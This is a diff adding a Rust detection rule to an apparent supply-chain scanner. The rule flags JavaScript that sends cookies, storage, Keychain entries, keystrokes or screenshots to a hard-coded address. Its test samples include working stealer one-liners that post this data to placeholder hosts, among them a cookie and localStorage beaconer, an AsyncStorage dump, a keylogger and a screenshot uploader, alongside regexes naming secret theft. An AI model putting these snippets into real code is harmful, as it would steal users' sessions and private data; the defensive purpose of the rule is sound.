@@ -1,0 +1,396 @@
+//! Rule `client-data-theft`.
+
+use crate::model::Severity;
+use crate::package::{FileCtx, Package};
+use crate::rules::{Emitter, code_files, is_doc_path};
+
+crate::declare_rule! {
+    /// Code that takes what only the user's own machine or browser holds and sends it to an
+    /// address written into the code. The sources are the whole cookie jar (`document.cookie`
+    /// used as a value, every Electron cookie, the request headers an Electron `webRequest` hook
+    /// sees), Web Storage or React Native `AsyncStorage` walked key by key, the Keychain,
+    /// keystroke listeners, password and input fields, the clipboard, the screen
+    /// (`screencapture`, `desktopCapturer`, `CopyFromScreen`, `import -window root`), and values
+    /// picked out by a secret-shaped pattern (`/session|token|jwt/`, a JWT's `eyJ`). The send is a
+    /// request, beacon, image, socket, datagram or upload whose destination is a literal URL, host
+    /// or public IP that is not loopback or private: a library's own endpoint is configured by
+    /// its user, while a thief carries its collector with it. Critical when the source and the
+    /// send sit in the same function (or both run when the file loads); a weak source (screen,
+    /// clipboard, fields, a secret pattern) needs a second source or the machine's identity
+    /// there too. When they only share the file, two kinds of strong source are needed: critical
+    /// in a file the package's entry loads (the import-time context), medium elsewhere. Analytics SDKs read their own cookie by name
+    /// and persist libraries walk storage without a fixed destination: neither matches.
+    id: "client-data-theft",
+    category: Data,
+    severity: High,
+    capability: Some(crate::model::Capability::Network),
+    title: "sends cookies, storage, keystrokes or screenshots to a fixed address",
+    incident: "Magecart-style skimmers and session stealers in front-end dependencies (2018-2025); the React Native compromise of Jun 2025 (gluestack/react-native-aria); screen-grabbing modules of the Contagious Interview tooling (2024-2025); getcookies (2018)",
+    case_file: "index.js",
+    flag: [
+        "function s() { const e = {}; for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); e[k] = localStorage.getItem(k) } navigator.sendBeacon('https://rum.collector.example/b', JSON.stringify({ c: document.cookie, s: e })) }",
+        "let store = require('@react-native-async-storage/async-storage').default\nconst warm = () => store.getAllKeys().then((k) => store.multiGet(k)).then((p) => fetch('https://203.0.113.9/v1', { method: 'POST', body: JSON.stringify(p) }))",
+        "const SID = /session|token|jwt/i\nconst sock = require('dgram').createSocket('udp4')\nfunction diag(obj) { const hits = []; for (const k in obj) if (SID.test(k)) hits.push(k + '=' + obj[k]); const m = Buffer.from(require('os').hostname() + hits.join(';')); sock.send(m, 0, m.length, 514, '198.51.100.4') }",
+        "document.addEventListener('keydown', (e) => { buf.push(e.key); if (buf.length > 50) { new Image().src = 'https://k.example.net/c?d=' + encodeURIComponent(buf.join('')); buf = [] } })",
+        "async function shot() { await run('/usr/sbin/screencapture', ['-x', f]); const form = new FormData(); form.append('h', os.hostname()); await fetch('https://upload.example.org/s', { method: 'POST', body: form }) }",
+    ],
+    pass: [
+        "function id() { const m = document.cookie.match(/_ga=([^;]+)/); return fetch('https://api.analytics.example/collect', { method: 'POST', body: JSON.stringify({ cid: m && m[1] }) }) }",
+        "function persist() { for (let i = 0; i < localStorage.length; i++) { const k = localStorage.key(i); out[k] = localStorage.getItem(k) } return fetch(options.endpoint, { method: 'POST', body: JSON.stringify(out) }) }",
+        "document.addEventListener('keydown', (e) => { if (e.key === 'k' && e.metaKey) openPalette() })\nfunction load() { return fetch('https://cdn.example.com/icons.json') }",
+        "async function shot(file) { await run('screencapture', ['-x', file]); return file }",
+        "function log(obj) { const m = Buffer.from(JSON.stringify({ c: document.cookie })); sock.send(m, 0, m.length, 514, '127.0.0.1') }",
+    ],
+}
+
+/// What a file takes from the user; `strong` sources are theft on their own when sent.
+struct Src {
+    off: u32,
+    kind: &'static str,
+    strong: bool,
+}
+
+fn sources(f: &FileCtx) -> Vec<Src> {
+    let text = f.text.as_str();
+    let mut out: Vec<Src> = Vec::new();
+    if !crate::mentions!(
+        text,
+        [
+            "cookie",
+            "Storage",
+            "getAllKeys",
+            "multiGet",
+            "Keychain",
+            "getGenericPassword",
+            "getInternetCredentials",
+            "key",
+            "password",
+            "querySelectorAll",
+            "clipboard",
+            "pbpaste",
+            "Get-Clipboard",
+            "xclip",
+            "screencapture",
+            "desktopCapturer",
+            "CopyFromScreen",
+            "-window root",
+            "screenshot",
+            "getDisplayMedia",
+            "requestHeaders"
+        ]
+    ) {
+        return secret_pattern_uses(text);
+    }
+    let table: &[(&crate::rules::gate::Re, &'static str, bool)] = &[
+        (
+            crate::regex!(r"[:,+\[(]\s*(?:window\.)?document\.cookie\s*[,})\]+;]"),
+            "the whole cookie jar",
+            true,
+        ),
+        (
+            crate::regex!(
+                r"\b(?:local|session)Storage\.key\(|Object\.(?:keys|entries|values|assign)\(\s*(?:\{\s*\}\s*,\s*)?(?:window\.)?(?:local|session)Storage\b|JSON\.stringify\(\s*(?:window\.)?(?:local|session)Storage\b|\.\.\.\s*(?:window\.)?(?:local|session)Storage\b|\bin\s+(?:window\.)?(?:local|session)Storage\b"
+            ),
+            "every Web Storage entry",
+            true,
+        ),
+        (
+            crate::regex!(r"\.getAllKeys\(\s*\)|\.multiGet\("),
+            "AsyncStorage entries",
+            true,
+        ),
+        (
+            crate::regex!(
+                r"\b(?:getGenericPassword|getInternetCredentials|getAllGenericPasswordServices)\("
+            ),
+            "Keychain passwords",
+            true,
+        ),
+        (
+            crate::regex!(r"\.cookies\.get\(\s*\{\s*\}\s*\)"),
+            "every Electron cookie",
+            true,
+        ),
+        (
+            crate::regex!(r"webRequest\.on(?:BeforeSendHeaders|SendHeaders)\b"),
+            "the headers of every request",
+            true,
+        ),
+        (
+            crate::regex!(
+                r#"addEventListener\(\s*['"`]key(?:down|press|up)['"`]|\bonkey(?:down|press|up)\s*=[^=]"#
+            ),
+            "keystrokes",
+            true,
+        ),
+        (
+            crate::regex!(
+                r#"(?i)type\s*=\s*\\?['"]?password|querySelectorAll\(\s*['"`][^'"`]*\binput\b"#
+            ),
+            "form fields",
+            false,
+        ),
+        (
+            crate::regex!(
+                r"clipboard\.readText\(|\bpbpaste\b|Get-Clipboard\b|\bxclip\b[^\n]{0,20}-o\b|\bxsel\b"
+            ),
+            "the clipboard",
+            false,
+        ),
+        (
+            crate::regex!(
+                r"\bscreencapture\b|desktopCapturer\b|CopyFromScreen\b|\bimport\s+-window\s+root\b|gnome-screenshot\b|\bscrot\b|screenshot-desktop\b|getDisplayMedia\(|\bxwd\s+-root\b"
+            ),
+            "the screen",
+            false,
+        ),
+    ];
+    for (re, kind, strong) in table {
+        for m in re.find_iter(text).take(16) {
+            out.push(Src {
+                off: m.start() as u32,
+                kind,
+                strong: *strong,
+            });
+        }
+    }
+    out.extend(secret_pattern_uses(text));
+    out
+}
+
+/// Values picked out by a secret-shaped pattern: a regex literal naming two kinds of secret, or
+/// a JWT's header, where it is used (`SESSION.test(k)`).
+fn secret_pattern_uses(text: &str) -> Vec<Src> {
+    let mut out = Vec::new();
+    let secret_re = crate::regex!(
+        r"(?:var|let|const)\s+([A-Za-z_$][\w$]*)\s*=\s*/([^/\n]*(?:session|token|jwt|eyJ|mnemonic|seed|private|secret|passw|wallet|bearer|auth)[^/\n]*)/[a-z]*"
+    );
+    let words = crate::regex!(
+        r"(?i)session|token|jwt|eyj|mnemonic|seed|private|secret|passw|wallet|bearer|auth|cookie|\bsid\b|keystore"
+    );
+    for c in secret_re.captures_iter(text).take(8) {
+        let (Some(name), Some(body)) = (c.get(1), c.get(2)) else {
+            continue;
+        };
+        let kinds: std::collections::HashSet<String> = words
+            .find_iter(body.as_str())
+            .map(|m| m.as_str().to_ascii_lowercase())
+            .collect();
+        if kinds.len() < 2 && !body.as_str().contains("eyJ") {
+            continue;
+        }
+        let uses = format!("{}.test(", name.as_str());
+        for (i, _) in text.match_indices(&uses).take(8) {
+            out.push(Src {
+                off: i as u32,
+                kind: "values matching a secret pattern",
+                strong: false,
+            });
+        }
+    }
+    out
+}
+
+/// Whether a host is somewhere other than this machine or its private network.
+fn foreign_host(host: &str) -> bool {
+    let h = host.trim_start_matches('[').to_ascii_lowercase();
+    if h.is_empty() || !h.contains('.') && !h.contains(':') {
+        return false;
+    }
+    if h == "localhost" || h.ends_with(".localhost") || h.ends_with(".local") {
+        return false;
+    }
+    if let Ok(ip) = h.parse::<std::net::Ipv4Addr>() {
+        return !(ip.is_loopback() || ip.is_private() || ip.is_unspecified() || ip.is_link_local());
+    }
+    if h.starts_with("::") || h.contains("${") || h.contains('*') {
+        return false;
+    }
+    // A host name: letters in its last label.
+    h.rsplit('.')
+        .next()
+        .is_some_and(|tld| tld.len() >= 2 && tld.chars().all(|c| c.is_ascii_alphabetic()))
+}
+
+/// Offsets of fixed foreign destinations written in the file: a URL, a `host:` option or a
+/// quoted public IP.
+fn destinations(f: &FileCtx) -> Vec<(u32, String)> {
+    let re = crate::regex!(
+        r#"['"`](?:https?|wss?|ftp)://([^/'"`\s:?#@]+)|\bhost(?:name)?\s*:\s*['"`]([A-Za-z0-9.-]+)['"`]|['"`](\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3})['"`]"#
+    );
+    let mut out = Vec::new();
+    for c in re.captures_iter(&f.text).take(256) {
+        let Some(h) = c.get(1).or(c.get(2)).or(c.get(3)) else {
+            continue;
+        };
+        if foreign_host(h.as_str()) {
+            out.push((h.start() as u32, h.as_str().to_string()));
+        }
+    }
+    out
+}
+
+/// Whether a call sends data somewhere.
+fn is_send(path: &str) -> bool {
+    if crate::rules::network::is_net_call(path) {
+        return true;
+    }
+    let last = path.rsplit('.').next().unwrap_or(path);
+    matches!(
+        last,
+        "send"
+            | "sendBeacon"
+            | "sendMail"
+            | "request"
+            | "write"
+            | "end"
+            | "post"
+            | "put"
+            | "upload"
+            | "uploadFrom"
+            | "ajax"
+            | "fetch"
+            | "open"
+            | "connect"
+            | "createConnection"
+    ) || path == "Image"
+        || path == "WebSocket"
+}
+
+/// The machine's identity read next to the source (a stealer tags its loot).
+fn identity_in(text: &str, span: (u32, u32)) -> bool {
+    let s = text
+        .get(span.0 as usize..(span.1 as usize).min(text.len()))
+        .unwrap_or("");
+    s.contains("hostname()") || s.contains("userInfo()") || s.contains("whoami")
+}
+
+fn check(pkg: &Package, out: &mut Emitter) {
+    for f in code_files(pkg) {
+        if is_doc_path(&f.path) {
+            continue;
+        }
+        let Some(js) = &f.js else { continue };
+        let srcs = sources(f);
+        if srcs.is_empty() {
+            continue;
+        }
+        let dests = destinations(f);
+        // Sends whose destination is fixed: a literal in the send's own function, or a folded
+        // argument or option of the call.
+        let sends: Vec<(u32, Option<(u32, u32)>)> = js
+            .calls
+            .iter()
+            .filter(|c| is_send(&c.path))
+            .filter_map(|c| {
+                let scope = js.scope_of(c.off);
+                let folded = (0..c.args.len())
+                    .filter_map(|i| c.arg_lit(i))
+                    .chain(["url", "host", "hostname"].iter().filter_map(|k| c.opt(k)))
+                    .any(|v| {
+                        let h = v
+                            .split_once("://")
+                            .map_or(v, |(_, r)| r)
+                            .split(['/', ':', '?', '#'])
+                            .next()
+                            .unwrap_or("");
+                        foreign_host(h)
+                    });
+                let local = dests.iter().any(|(o, _)| js.scope_of(*o) == scope);
+                (folded || local).then_some((c.off, scope))
+            })
+            .collect();
+        // Sends the resolver could not name (`xhr.send`, `sock.send`, `new Image().src = …`),
+        // found in the text: a fixed destination must sit in the same function.
+        let text_sends = crate::regex!(
+            r"\.(?:send|sendBeacon|sendMail|write|end|request|post|put|upload|uploadFrom|open|connect)\s*\(|\bfetch\s*\(|\bnew\s+(?:Image|WebSocket)\b|\.src\s*=[^=]"
+        );
+        let by_text: Vec<(u32, Option<(u32, u32)>)> = if dests.is_empty() {
+            Vec::new()
+        } else {
+            text_sends
+                .find_iter(&f.text)
+                .take(512)
+                .map(|m| m.start() as u32)
+                .filter_map(|o| {
+                    let sc = js.scope_of(o);
+                    dests
+                        .iter()
+                        .any(|(d, _)| js.scope_of(*d) == sc)
+                        .then_some((o, sc))
+                })
+                .collect()
+        };
+        let all_sends: Vec<(u32, Option<(u32, u32)>)> = sends.into_iter().chain(by_text).collect();
+        if all_sends.is_empty() {
+            continue;
+        }
+        // A unit this big is a module's worth of code, not one function.
+        let too_big = |sc: Option<(u32, u32)>| match sc {
+            Some((s, e)) => e - s > 12_000,
+            None => f.text.len() > 12_000,
+        };
+        // Same function (or both at load time).
+        let mut best: Option<(Severity, u32, String)> = None;
+        for (send_off, scope) in &all_sends {
+            if too_big(*scope) {
+                continue;
+            }
+            let here: Vec<&Src> = srcs
+                .iter()
+                .filter(|s| js.scope_of(s.off) == *scope)
+                .collect();
+            if here.is_empty() {
+                continue;
+            }
+            let kinds: std::collections::BTreeSet<&str> = here.iter().map(|s| s.kind).collect();
+            let span = scope.unwrap_or((0, f.text.len() as u32));
+            let strong =
+                here.iter().any(|s| s.strong) || kinds.len() >= 2 || identity_in(&f.text, span);
+            let sev = if strong {
+                Severity::Critical
+            } else {
+                Severity::High
+            };
+
+            let what: Vec<&str> = kinds.into_iter().collect();
+            if best.as_ref().is_none_or(|(s, _, _)| sev > *s) {
+                best = Some((
+                    sev,
+                    *send_off,
+                    format!(
+                        "sends {} to a fixed address from the same function",
+                        what.join(", ")
+                    ),
+                ));
+            }
+        }
+        if best.is_none() {
+            // Only the file in common: two kinds of strong source, gathered in one place and
+            // sent from another (a queue flushed by a timer).
+            let strong: Vec<&Src> = srcs.iter().filter(|s| s.strong).collect();
+            let kinds: std::collections::BTreeSet<&str> = strong.iter().map(|s| s.kind).collect();
+            if let Some(first) = strong.first()
+                && kinds.len() >= 2
+            {
+                let sev = if pkg.is_entry_file(f) {
+                    Severity::Critical
+                } else {
+                    Severity::Medium
+                };
+                let what: Vec<&str> = kinds.into_iter().collect();
+                best = Some((
+                    sev,
+                    first.off,
+                    format!(
+                        "reads {} in a file that sends to a fixed address",
+                        what.join(", ")
+                    ),
+                ));
+            }
+        }
+        if let Some((sev, off, msg)) = best {
+            out.hit_sev(sev, pkg, f, off, msg);
+        }
+    }
+}
